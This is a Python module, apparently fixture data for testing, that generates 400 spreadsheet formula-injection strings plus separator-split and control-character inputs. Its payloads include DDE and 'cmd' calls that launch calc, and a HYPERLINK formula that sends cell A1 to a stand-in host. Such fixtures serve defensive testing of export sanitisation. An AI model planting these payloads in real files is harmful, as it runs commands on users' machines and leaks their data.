"""Four hundred texts that a spreadsheet would run, if it took them for formulas."""

from itertools import product

_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.test/"&A1,"Click")',
    "SUM(A1:A9)*cmd",
    'DDE("cmd";"/C calc";"x")',
)
_BEFORE = ("", " ", "\t", "\r", "\n", '"', "'", "\ufeff", "\u00a0", "\u200b")

PAYLOADS: tuple[str, ...] = tuple(
    f"{before}{sign}{body}" for sign, body, before in product(_SIGNS, _BODIES, _BEFORE)
)
# What stands behind a separator of another country's spreadsheet, and signs that are no text.
SPLIT: tuple[str, ...] = tuple(
    f"Air{separator}{sign}1+1" for separator in (";", "\t", "\r", "\n") for sign in _SIGNS
)
CONTROL = ("\x00=1+1", "a\x00b", "\x07bell", "\x1b[31m", "\ufffe")
